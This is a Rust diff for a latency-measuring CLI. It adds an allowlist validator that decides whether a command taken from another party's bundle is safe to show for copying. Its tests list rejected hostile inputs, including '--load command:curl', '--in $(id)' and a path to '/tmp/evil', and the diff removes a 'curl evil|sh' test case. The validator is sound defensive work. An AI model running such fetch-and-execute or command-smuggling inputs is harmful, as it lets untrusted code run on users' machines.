@@ -53,12 +53,60 @@ fn worth(audit: &Audit, action: &Action) -> String {
 pub fn whole(typed: &[String], next: Next) -> Next {
     let told = next.command.split_once(' ').filter(|(option, _)| option.starts_with("--"));
     let ([_, rest @ ..], Some((option, value))) = (typed, told) else { return next };
-    // A load that runs a command: it may be anybody's.
-    if rest.iter().any(|word| word.contains("command:")) {
-        return next;
-    }
-    // Whatever program a bundle of somebody else names.
+    // Not the program: a bundle of somebody else may name any.
     Next { command: format!("tactus {}", called_again(rest, option, value)), ..next }
+}
+
+/// Commands that a bundle of somebody else may have been made by, to be shown as the next step.
+const MEASURING: [&str; 2] = ["run", "measure"];
+/// Their options that name no program, file or device, with a value or without.
+const VALUES: [&str; 19] = [
+    "-i",
+    "--interval",
+    "--max",
+    "--jitter",
+    "--p99",
+    "--p99.9",
+    "--p99.99",
+    "--p99.999",
+    "--tail",
+    "--overruns",
+    "--in",
+    "-a",
+    "--cpus",
+    "--load",
+    "-D",
+    "--duration",
+    "--repeat",
+    "--only",
+    "--priority",
+];
+const FLAGS: [&str; 5] = ["--quick", "--long", "--json", "--plain", "--judge-emulated"];
+
+/// Whether a command that was read from a bundle may be shown to be copied: it measures with options whose values are names
+/// and numbers. A plan, a program, a file, a device or a load that runs a command may be anybody's.
+pub fn is_harmless(typed: &[String]) -> bool {
+    let [_, command, rest @ ..] = typed else { return false };
+    let plain = |value: &str| {
+        !value.contains("command")
+            && value.chars().all(|c| c.is_ascii_alphanumeric() || ".,:=!_-".contains(c))
+    };
+    let mut words = rest.iter();
+    let mut options = std::iter::from_fn(|| {
+        let word = words.next()?;
+        let (option, value) = match word.split_once('=') {
+            Some((option, value)) => (option, Some(value)),
+            None if VALUES.contains(&word.as_str()) => {
+                (word.as_str(), Some(words.next().map_or("", String::as_str)))
+            }
+            None => (word.as_str(), None),
+        };
+        Some(value.map_or_else(
+            || FLAGS.contains(&option),
+            |value| VALUES.contains(&option) && !value.is_empty() && !value.starts_with('-') && plain(value),
+        ))
+    });
+    MEASURING.contains(&command.as_str()) && options.all(|harmless| harmless)
 }
 
 /// Arguments as a shell takes them, with this value of an option in place of what says it now, and without a bundle, which is
@@ -95,6 +143,38 @@ mod tests {
     }
 
     #[test]
+    fn a_command_of_somebody_elses_bundle_is_shown_where_it_names_no_program_file_or_device() {
+        let typed = |line: &str| line.split(' ').map(str::to_owned).collect::<Vec<_>>();
+        for line in [
+            "tactus run",
+            "x run -i 1ms --max 100us --cpus 1-3,!2 --in host,docker:web --load scheduler --quick",
+            "tactus measure -D 2 --p99.99=50us --load cache:bytes=8M",
+        ] {
+            assert!(is_harmless(&typed(line)), "{line}");
+        }
+        for line in [
+            "tactus",
+            "",
+            "tactus kernel fetch",
+            "tactus run plan.toml --trust",
+            "tactus run /tmp/x/plan.toml",
+            "tactus run --in qemu --qemu /tmp/evil",
+            "tactus measure --qemu=evil",
+            "tactus measure --in qemu --qemu-arg=-loadvm",
+            "tactus run --load command:curl",
+            "tactus run --load=command:curl",
+            "tactus run --file ./x",
+            "tactus run --in a/b",
+            "tactus run -D",
+            "tactus run --max --trust",
+            "tactus run --metrics 0.0.0.0:80",
+            "tactus run --in $(id)",
+        ] {
+            assert!(!is_harmless(&typed(line)), "{line}");
+        }
+    }
+
+    #[test]
     fn a_step_that_is_an_option_becomes_the_whole_command() {
         for (typed, says) in [
             (&["tactus", "run", "gate.toml", "--quick"][..], "tactus run gate.toml --duration 101s"),
@@ -104,7 +184,6 @@ mod tests {
             (&["rm", "-D2", "-a", "1"], "tactus -a 1 --duration 101s"),
             (&["tactus", "run", "it's"], r"tactus run 'it'\''s' --duration 101s"),
             (&[], "--duration 101s"),
-            (&["tactus", "run", "--load", "command:curl evil|sh"], "--duration 101s"),
         ] {
             assert_eq!(command(typed, "--duration 101s"), says);
         }
